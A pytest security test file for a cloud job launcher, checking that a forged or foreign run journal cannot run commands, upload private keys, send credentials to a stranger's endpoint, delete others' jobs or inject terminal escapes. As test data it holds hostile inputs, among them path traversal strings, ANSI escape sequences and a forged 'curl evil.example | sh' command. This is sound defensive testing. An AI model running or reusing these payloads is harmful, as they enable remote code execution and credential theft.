"""What a journal that somebody else may have written cannot make this machine do."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator
from dataclasses import asdict, replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from launcher import api, console, engine, home, start, sweeping, view
from launcher.adopt import adopt
from launcher.artifacts import open_artifacts
from launcher.backends.base import Env, Held, Intent, JobHandle, LogQuery, Offer, Phase
from launcher.backends.vertex import jobs
from launcher.backends.vertex.request import DEFAULT_PLACES
from launcher.errors import (
    BadRequest,
    Denied,
    Exit,
    HeldElsewhere,
    JournalDamaged,
    LaunchError,
    Leaked,
    UsageError,
)
from launcher.fold import Fold
from launcher.journal import Journal
from launcher.run import Run
from launcher.spec import Environment, Hardware, Recipe, Retry, Wheel
from tests.launcher.bucketed import begin, bucket, journal, laptop, lists, load, recipe
from tests.launcher.rehearsed import Scene
from tests.launcher.test_adopt import driven_for_a_while, root
from tests.launcher.test_faults import Turning
from trainer.store import open_store

from launcher.rehearsal.faults import Fault, Script  # isort: skip
from launcher.rehearsal.vertex import PREEMPTED, Stub, exited, types  # isort: skip


@pytest.fixture
def clock() -> Turning:
    return Turning()


@pytest.fixture
def it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, clock: Turning) -> Iterator[Scene]:
    with bucket(tmp_path, monkeypatch, clock) as made:
        yield made


def rewrite(where: str, number: int = 1, to: str = "", **facts: Any) -> None:
    """Change a record in the bucket, at the root `to` if that is another one."""
    name = f"journal/{number:08d}.json"
    record = {**json.loads(open_store(where).get_bytes(name)), **facts}
    open_store(to or where).put_bytes(name, json.dumps(record).encode())


def forge(where: str, number: int, kind: str, **facts: Any) -> None:
    who = {"host": "elsewhere", "pid": 1}
    record = {"v": 1, "seq": number, "epoch": 0, "time": 1.0, "driver": who, "kind": kind, **facts}
    open_store(where).put_bytes(f"journal/{number:08d}.json", json.dumps(record).encode())


def bucket_holds(text: bytes) -> list[str]:
    store = open_store("gs://bkt")
    return [name for name in store.list() if text in store.get_bytes(name)]


@pytest.mark.parametrize(
    "facts",
    [
        {"id": "../../outside/x"}, {"id": "29cb08a300500783\n"}, {"name": "harmless"},
        {"name": "\x1b[2Jthing-500783"}, {"owner": "ann\nbob"}, {"created": "now"}, {"recipe": {}},
        {"fingerprint": "f"}, {"recipe": {"name": "[red]"}},
    ],
)  # fmt: skip
def test_a_forged_identity_is_not_adopted(it: Scene, tmp_path: Path, facts: dict[str, Any]) -> None:
    run_id = begin(it)
    rewrite(root(run_id), **facts)
    other = laptop(it, tmp_path / "other")
    with pytest.raises(UsageError, match="its journal is not one of launch") as caught:
        adopt(root(run_id), other)
    assert caught.value.code == Exit.USAGE and str(caught.value).isprintable()
    assert not (other.home / "runs").exists() and not list(tmp_path.rglob("outside"))


def test_a_journal_with_the_id_of_a_run_of_ours_does_not_take_its_place(it: Scene) -> None:
    run_id = begin(it)
    rewrite(root(run_id), to="gs://bkt/evil", root="gs://bkt/evil")
    before = home.identity(it.home, run_id)
    with pytest.raises(UsageError, match=f"has the id of thing-{run_id[-6:]}, which lies at"):
        adopt("gs://bkt/evil", it.env)
    assert home.identity(it.home, run_id) == before


def test_a_first_record_that_was_replaced_is_not_driven(it: Scene, tmp_path: Path) -> None:
    run_id = begin(it)
    other = laptop(it, tmp_path / "other")
    facts = adopt(root(run_id), other)
    rewrite(root(run_id), name="../../x-000000")
    with pytest.raises(JournalDamaged, match="is not the one of thing"):
        view.look(other, facts)
    with pytest.raises(JournalDamaged, match="is not the one of thing"):
        engine.drive(run_id, other, load, take_over=True)


def local() -> Recipe:
    made = recipe()
    hardware = Hardware("local", "cpu:1")
    return replace(made, stages=tuple(replace(s, hardware=hardware) for s in made.stages))


def test_nobody_elses_argv_runs_here(
    it: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run_id = begin(it, local())
    evil, name = tmp_path / "evil", f"thing-{run_id[-6:]}"
    request = {"argv": ["touch", str(evil)], "labels": {},
               "boot": {"run": run_id, "work": str(tmp_path / "work")}}  # fmt: skip
    intent = Intent("process", f"{name}-j0-a1", "this machine", request, False)
    offer = asdict(Offer("local", "this machine", "cpu:1", usd_per_hour=0.0))
    forge(root(run_id), 2, "intent", job=0, attempt=1, intent=asdict(intent), offer=offer)
    other = laptop(it, tmp_path / "other")
    adopt(root(run_id), other)
    monkeypatch.setattr(api, "env", lambda: other)
    before = journal(it, run_id)
    calls: list[Callable[[], object]] = [
        lambda: engine.drive(run_id, other, take_over=True),
        lambda: api.attach(run_id, take_over=True),
        lambda: api.teardown(run_id),
    ]
    for call in calls:
        with pytest.raises(LaunchError, match="processes of the machine that started") as caught:
            call()
        assert caught.value.code == Exit.USAGE
    assert journal(it, run_id) == before and not evil.exists()
    assert not (tmp_path / "work").exists()
    assert api.status(run_id).name == name, "looking at it is safe"


def test_an_intent_of_another_home_is_planned_anew(it: Scene, tmp_path: Path) -> None:
    run_id = driven_for_a_while(it, Stub(1, 1, 500, PREEMPTED))
    secret = tmp_path / "id_rsa"
    secret.write_text("PRIVATE KEY")
    store = open_store(root(run_id))
    names = store.list("journal/")
    records = [json.loads(store.get_bytes(name)) for name in names]
    (bundle,) = [r for r in records if r["kind"] == "intent" and "bundles" in r["intent"]["name"]]
    # It was about to send the bundle, says the journal, and the bundle is the laptop's own key.
    bundle["intent"]["request"]["file"] = str(secret)
    for name in names[records.index(bundle) :]:
        store.delete(name)
    store.put_bytes(f"journal/{bundle['seq']:08d}.json", json.dumps(bundle).encode())
    open_store("gs://bkt").delete(bundle["intent"]["name"].removeprefix("gs://bkt/"))
    other = laptop(it, tmp_path / "other")
    adopt(root(run_id), other)
    run = engine.drive(run_id, other, load, take_over=True)
    assert run.phase is Phase.SUCCEEDED
    assert not bucket_holds(b"PRIVATE KEY")


def test_a_recorded_path_is_not_sent_as_the_bundle(it: Scene, tmp_path: Path) -> None:
    run_id = begin(it)
    secret = tmp_path / "id_rsa"
    secret.write_text("PRIVATE KEY")
    rewrite(root(run_id), bundle={"path": str(secret), "sha256": "ab" * 32, "bytes": 11})
    other = laptop(it, tmp_path / "other")
    adopt(root(run_id), other)
    assert engine.drive(run_id, other, load, take_over=True).phase is Phase.SUCCEEDED
    assert not bucket_holds(b"PRIVATE KEY")
    (sent,) = open_store("gs://bkt/launch/bundles").list()
    assert (other.home / "bundles" / sent).exists(), "this machine's own build"


def wheeled(file: Path) -> Recipe:
    made = recipe()
    wheel = Wheel("flash-attn", str(file), sha256="cd" * 32)
    wanted = Environment(python="3.11", torch="2.9.0", cuda="12.8", wheels=(wheel,))
    stages = [replace(s, hardware=replace(s.hardware, environment=wanted)) for s in made.stages]
    return replace(made, stages=tuple(stages))


def test_a_local_wheel_of_anothers_recipe_is_not_sent(it: Scene, tmp_path: Path) -> None:
    file = tmp_path / "flash_attn-2.8-cp311-cp311-linux_x86_64.whl"
    file.write_text("PRIVATE KEY")
    run_id = begin(it, wheeled(file))
    other = laptop(it, tmp_path / "other")
    adopt(root(run_id), other)
    run = engine.drive(run_id, other, load, take_over=True)
    assert run.exit_code == Exit.USAGE or run.phase is Phase.FAILED
    assert "no file that another machine's journal names is sent from here" in run.why
    assert not bucket_holds(b"PRIVATE KEY")


def test_a_local_wheel_of_anothers_recipe_is_taken_from_the_bucket(
    it: Scene, tmp_path: Path
) -> None:
    file = tmp_path / "flash_attn-2.8-cp311-cp311-linux_x86_64.whl"
    file.write_text("a wheel")
    run_id = begin(it, wheeled(file))
    open_store("gs://bkt").put_bytes(f"launch/wheels/{'cd' * 32}/{file.name}", b"a wheel")
    other = laptop(it, tmp_path / "other")
    adopt(root(run_id), other)
    assert engine.drive(run_id, other, load, take_over=True).phase is Phase.SUCCEEDED


def ended(it: Scene) -> Run:
    run_id = begin(it, replace(recipe(), retry=Retry(0, 0, 0, 0)))
    it.server.vertex.fate = Stub(1, 1, 5, exited(1))
    return engine.drive(run_id, it.env, load)


def reopened(env: Env, run: Run) -> None:
    place = home.folder(env.home, run.id)
    made = Journal(place, open_artifacts(run.root, place, env.environ, env.clock), env.clock)
    start.reopen(Fold(made.read(heal=True)), made, place, (), env)
    (place / "summary.json").unlink(missing_ok=True)


class Seen(Exception):
    """The other laptop has looked; the driver need not go on."""


def while_it_runs(it: Scene, clock: Turning, run: Run, env: Env, look: Callable[[], None]) -> None:
    """`env` drives the run that was opened again; a minute later, somebody looks."""
    it.server.vertex.fate = Stub(1, 1, None)

    def looked() -> None:
        assert list(it.server.vertex.states().values()) == ["RUNNING"]
        look()
        raise Seen

    clock.after(60, looked)
    with pytest.raises(Seen):
        engine.drive(run.id, env, load)


def test_a_summary_here_is_not_believed_when_another_laptop_went_on(
    it: Scene, tmp_path: Path, clock: Turning, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = ended(it)
    other = laptop(it, tmp_path / "other")
    adopt(run.root, other)
    reopened(other, run)
    summary = home.folder(it.home, run.id) / "summary.json"
    text = summary.read_text()
    monkeypatch.setattr(api, "env", lambda: it.env)

    def as_it_was() -> None:
        summary.write_text(text)
        shutil.rmtree(summary.parent / "copy")

    def look() -> None:
        assert sweeping.find(it.env) == [], "its job is nobody's stray"
        for again in (lambda: api.status(run.id), lambda: api.stop(run.id)):
            as_it_was()
            assert again().ended is None and not summary.exists()
        assert open_store(run.root).exists("control/stop.json")
        open_store(run.root).delete("control/stop.json")
        as_it_was()
        assert [*view.live_like(it.env, run.fingerprint)] == [run.id]
        summary.write_text(text)
        before = len(it.server.log)
        assert [r.phase for r in view.listed(it.env, 5)] == [Phase.FAILED]
        assert len(it.server.log) == before, "the list of all stays instant"

    while_it_runs(it, clock, run, other, look)


def test_a_run_that_is_over_costs_one_list_call_to_look_at(it: Scene) -> None:
    run = ended(it)
    before = len(it.server.log)
    assert view.look(it.env, home.find(it.home, run.name)).phase is Phase.FAILED
    assert lists(it, before) == 1 and len(it.server.log) == before + 1


def test_a_job_is_in_doubt_while_its_bucket_does_not_answer(
    it: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    from launcher.errors import Transient

    run = ended(it)
    it.server.vertex.fate = Stub(1, 1, None)
    facts = home.find(it.home, run.name)

    def deaf(*_: object) -> bool:
        raise Transient("the bucket does not answer")

    monkeypatch.setattr("launcher.artifacts.Bucket.names", deaf)
    assert view.look(it.env, facts).warnings[-1].startswith(view.DEAF)
    from launcher.backends.base import Labelled, Ref

    found = Labelled(Ref("vertex", "custom_job", "x", "here", run.id), "ann")
    assert sweeping._goes_on(it.env, found) == (False, f"{view.DEAF}: the bucket does not answer")


def test_a_refused_resume_does_not_make_anothers_claim_ours(
    it: Scene, tmp_path: Path, clock: Turning, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = ended(it)
    other = laptop(it, tmp_path / "other")
    facts = adopt(run.root, other)
    view.look(other, facts)
    reopened(it.env, run)
    spawned: list[str] = []
    monkeypatch.setattr("launcher.driver.spawn", lambda i, env, lock: spawned.append(i))
    monkeypatch.setattr(api, "env", lambda: other)

    def look() -> None:
        with pytest.raises(HeldElsewhere):
            api.resume(run.id)
        place = home.folder(other.home, run.id)
        bucket_ = open_artifacts(run.root, place, other.environ, other.clock)
        Journal(place, bucket_, other.clock).read(heal=True)
        assert not list(place.glob("journal/*.json")), "a copy says: written here"
        api.attach(run.id)
        with pytest.raises(HeldElsewhere):
            engine.drive(run.id, other, load)
        assert spawned == []

    while_it_runs(it, clock, run, it.env, look)


def test_teardown_all_leaves_what_goes_on_elsewhere_alone(
    it: Scene, tmp_path: Path, clock: Turning, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two people whose machines have the same user name, in one project."""
    run_id = begin(it)
    it.server.vertex.fate = Stub(1, 1, None)
    there = laptop(it, tmp_path / "bob")
    there = replace(there, environ={**it.env.environ, "GOOGLE_CLOUD_PROJECT": "proj"})
    monkeypatch.setattr(api, "env", lambda: there)
    monkeypatch.setattr("launcher.backends.names", lambda: ["local", "vertex"])

    def look() -> None:
        assert sweeping.clear_backend(there, "vertex") == []
        adopt(root(run_id), there)
        (left,) = api.teardown_all()
        assert left.live and left.warnings[-1].startswith("left alone: `launch teardown thing-")
        assert list(it.server.vertex.states().values()) == ["RUNNING"]
        assert journal(it, run_id).count("driver") == 1
        raise Seen

    clock.after(60, look)
    with pytest.raises(Seen):
        engine.drive(run_id, it.env, load)


@pytest.mark.parametrize(
    ("given", "label"),
    [("Ann.Lee", r"ann-lee"), ("李雷", r"user-[0-9a-f]{6}"), ("müller", r"m-ller-[0-9a-f]{6}")],
)
def test_every_owner_has_a_label_of_its_own(given: str, label: str) -> None:
    mine = home.owner({"LAUNCH_OWNER": given})
    assert re.fullmatch(label, mine) and home.owner({"LAUNCH_OWNER": given}) == mine
    others = {home.owner({"LAUNCH_OWNER": name}) for name in ("韩梅梅", "möller", "ann")}
    assert len({*others, mine}) == 4


@pytest.mark.parametrize(
    "evil", ["\x1b[2J", "\x1b]0;title\x07", "\x9b31m", "\u202e", "\r", "\x07", "\x1bc"]
)
def test_nothing_from_a_journal_steers_the_terminal(
    evil: str, capsys: pytest.CaptureFixture[str]
) -> None:
    run = Run(
        id="0", name=f"a{evil}b", recipe="r", fingerprint="f", owner="o", root=f"gs://{evil}x",
        created=0.0, why=f"{evil}because", warnings=[f"{evil}careful"],
    )  # fmt: skip
    shown = [*console.runs([run], 1.0), *console.run_lines(run, 1.0), console.progress_line(run)]
    console.notice(run.warnings[0])
    console.error(LaunchError(run.why))
    shown += capsys.readouterr().err.splitlines()
    assert not any(evil in line for line in shown) and any("careful" in line for line in shown)
    assert any("ab" in line for line in shown)


def test_the_step_that_the_trainer_went_on_from_is_shown(it: Scene) -> None:
    run_id = begin(it)
    it.server.vertex.fates.append(Stub(1, 1, 5, PREEMPTED))
    it.server.vertex.fate = Stub(1, 1, 5)
    run = engine.drive(run_id, it.env, load)
    shown = "\n".join(console.run_lines(run, run.created))
    assert "step 120" in shown
    line = {"kind": "event", "event": "resumed", "attempt": 2, "global_step": 40}
    text = json.dumps(line) + "\n"
    open_store(root(run_id)).put_bytes("metrics/2.jsonl", text.encode())
    open_artifacts(run.root, home.folder(it.home, run_id), {}, it.clock).refresh(anew=True)
    shown = "\n".join(console.run_lines(run, run.created))
    assert "step 40 (newest: 120)" in shown


def forge_job(where: str, run_id: str, **facts: Any) -> None:
    """The records of an attempt whose job is this one."""
    name = f"thing-{run_id[-6:]}-j0-a1"
    data = {"resource": "projects/proj/locations/us-central1/customJobs/1", "project": "proj"}
    ref = {"backend": "vertex", "kind": "custom_job", "place": "us-central1", "run": run_id,
           "billable": True, "data": data, **facts, "name": name}  # fmt: skip
    intent = {key: ref[key] for key in ("kind", "name", "place", "billable")}
    offer = {"backend": "vertex", "place": ref["place"], "accelerator": "L4:1",
             "capacity": "spot", "usd_per_hour": 1.0}  # fmt: skip
    at = {"job": 0, "attempt": 1}
    forge(where, 2, "driver")
    forge(where, 3, "intent", **at, intent={**intent, "request": {}}, offer=offer)
    forge(where, 4, "ref", **at, ref=ref)


@pytest.mark.parametrize("known", [True, False])
def test_a_strangers_journal_deletes_no_job_of_another_run(
    it: Scene, tmp_path: Path, known: bool
) -> None:
    """It names one by its number, as its own or (`known`) as the other run's."""
    it.home.mkdir(parents=True)
    it.server.vertex.fates.append(Stub(1, 1, None))
    (ours,) = [ref for ref in it.attempt().refs if ref.billable]
    run_id = begin(it)
    forge_job(root(run_id), run_id, data=ours.data, run=ours.run if known else run_id)
    other = laptop(it, tmp_path / "other", "bob")
    adopt(root(run_id), other)
    assert engine.teardown(run_id, other, load).held is Held.GONE
    assert list(it.server.vertex.states().values()) == ["RUNNING"]


@pytest.mark.parametrize(
    "facts",
    [
        {"place": "evil.example?"},
        {
            "data": {
                "resource": "projects/proj/locations/us-central1/customJobs/1",
                "project": "x?y",
            }
        },
    ],
)
@pytest.mark.parametrize("environ", [{}, {"GOOGLE_CLOUD_PROJECT": "mine"}])
def test_credentials_go_to_no_address_that_a_stranger_names(
    it: Scene,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    facts: dict[str, Any],
    environ: dict[str, str],
) -> None:
    run_id = begin(it)
    forge_job(root(run_id), run_id, **facts)
    other = laptop(it, tmp_path / "other", "bob")
    ours = ("AIPLATFORM", "GOOGLE_CLOUD_PROJECT", "REGION")
    direct = {k: v for k, v in other.environ.items() if not any(name in k for name in ours)}
    other = replace(other, environ={**direct, **environ})
    adopt(root(run_id), other)
    asked: list[str] = []

    def refuse(endpoint: str, credentials: object) -> None:
        asked.append(endpoint)
        raise Denied("not here")

    monkeypatch.setattr(jobs, "_job_service", refuse)
    with pytest.raises(Leaked):
        engine.teardown(run_id, other, load)
    assert not list(other.home.glob("google/vertex-places/*"))
    # What carries the label is looked for where this machine's own environment says, if it does.
    places = DEFAULT_PLACES if "GOOGLE_CLOUD_PROJECT" in environ else ()
    assert asked == [f"https://{place}-aiplatform.googleapis.com" for place in places]


SOUND = {
    "resource": "projects/proj/locations/us-central1/customJobs/1", "project": "proj",
    "job_id": "1", "workers": 1,
}  # fmt: skip
ODD = [
    {"resource": None}, {"resource": 7}, {"resource": "projects/p/locations/us-east1/customJobs/1"},
    {"resource": "x/../y"}, {"project": 7}, {"project": None}, {"project": ["proj"]},
    {"workers": "x"}, {"workers": 0}, {"job_id": None}, {"job_id": '1" OR "'},
]  # fmt: skip


@pytest.mark.parametrize("odd", ODD)
def test_what_a_ref_says_is_read_or_refused_in_one_line(
    it: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, odd: dict[str, Any]
) -> None:
    """Its job is driven, watched, read from or torn down; whatever cannot be is a signal. What the
    label finds is deleted all the same."""
    run_id = begin(it)
    service = it.server.vertex
    service.fate = Stub(1, 1, None)
    data = {k: v for k, v in {**SOUND, **odd}.items() if v is not None}
    forge_job(root(run_id), run_id, data=data)
    mine = types.CustomJob(
        display_name=f"thing-{run_id[-6:]}-j0-a1",
        labels={"launch-run": run_id, "launch-owner": "ann"},
    )
    parent = "projects/proj/locations/us-central1"
    service._create(SimpleNamespace(parent=parent, custom_job=mine))
    other = laptop(it, tmp_path / "other", "ann")
    other = replace(other, environ={**other.environ, "GOOGLE_CLOUD_PROJECT": "proj"})
    facts = adopt(root(run_id), other)
    run = view.look(other, facts)
    (attempt,) = run.jobs[0].attempts
    handle = JobHandle(run_id, run.jobs[0].name, 1, run.root, tuple(attempt.refs))
    backend = load("vertex")
    for act in (
        lambda: list(backend.logs(handle, LogQuery(0), other)),
        lambda: backend.observe(handle, other),
        lambda: backend.stop(handle, other, 60.0),
    ):
        try:
            act()
        except BadRequest as error:
            assert re.fullmatch(r"journal: thing-\w{6}-j0-a1: its \w+ is \S.*", str(error))
            assert error.code == Exit.USAGE and "launch teardown" in error.hint
    where_known = "project" not in odd
    try:
        assert engine.teardown(run_id, other, load).held is Held.GONE
        assert where_known
    except Leaked as leak:
        assert not where_known and f"launch teardown thing-{run_id[-6:]}" in leak.commands
    assert service.states() == {}, "the label has found it"


@pytest.mark.parametrize(
    "facts", [{"place": 7}, {"kind": None}, {"data": "x"}, {"data": ["x"]}, {"backend": {}}]
)
def test_a_ref_that_is_none_is_a_damaged_journal(
    it: Scene, tmp_path: Path, facts: dict[str, Any]
) -> None:
    run_id = begin(it)
    forge_job(root(run_id), run_id, **{"data": SOUND, **facts})
    forge(root(run_id), 5, "driver")
    other = laptop(it, tmp_path / "other", "bob")
    with pytest.raises(JournalDamaged, match=r"record 00000004.json cannot be read"):
        adopt(root(run_id), other)
        engine.drive(run_id, other, load, take_over=True)


def test_a_command_from_a_strangers_journal_is_not_shown_to_be_typed(
    it: Scene, tmp_path: Path
) -> None:
    run_id = begin(it)
    resource = "projects/proj/locations/us-central1/customJobs/1"
    evil = {"resource": resource, "project": "proj", "delete_command": "curl evil.example | sh"}
    forge_job(root(run_id), run_id, data=evil)
    over = {"phase": "failed", "held": "live", "why": "", "exit_code": 1, "cause": "job"}
    forge(root(run_id), 5, "phase", job=0, attempt=1, **over)
    other = laptop(it, tmp_path / "other", "bob")
    adopt(root(run_id), other)
    it.server.faults = Script([("customJobs/1", Fault("status", 403))])
    with pytest.raises(Leaked) as caught:
        engine.teardown(run_id, other, load)
    assert caught.value.commands == [
        "gcloud ai custom-jobs cancel 1 --project=proj --region=us-central1",
        f"launch teardown thing-{run_id[-6:]}",
    ]
